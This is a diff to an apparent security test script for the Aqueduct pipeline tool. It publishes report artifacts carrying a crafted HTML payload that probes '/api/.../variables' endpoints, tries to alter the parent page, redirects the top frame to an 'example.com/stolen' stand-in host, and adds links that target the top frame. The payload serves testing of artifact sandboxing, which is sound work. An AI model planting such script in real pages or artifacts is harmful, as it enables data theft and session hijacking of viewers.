@@ -25,7 +25,10 @@ for (const path of ["/api/v2/variables", "/api/v1/variables"]) {{
 try {{ parent.document.title = "acted above"; }} catch {{}}
 try {{ if (top !== self) top.location = "https://example.com/stolen"; }} catch {{}}
 try {{ alert("acted"); }} catch {{}}
-</script><img src="https://example.com/pixel.png" alt=""></body></html>"""
+</script><img src="https://example.com/pixel.png" alt="">
+<a id="above" href="https://example.com/above" target="_top">above</a>
+<a id="here" href="https://example.com/here">here</a>
+<a id="home" href="/aqueduct/">home</a></body></html>"""
 
 
 @aq.op(requirements=NEEDS, outputs=["rows"])
@@ -79,6 +82,12 @@ def publish(client: aq.Client, *, wait: float) -> aq.Flow:
     page = client.create_param("page", default=REPORT)
     made = [report(page), notes(rows), picture(rows), settings(weight), high(result)]
     return client.publish_flow(NAME, description=ATTACK, artifacts=made, wait=wait)
+
+
+def publish_open(client: aq.Client, *, wait: float) -> aq.Flow:
+    """Publish another flow, for a user who may see this one alone."""
+    made = settings(client.create_param("weight", default=2.25))
+    return client.publish_flow("open to its reader", artifacts=[made], wait=wait)
 
 
 def flow_page(dag_id: str) -> str:
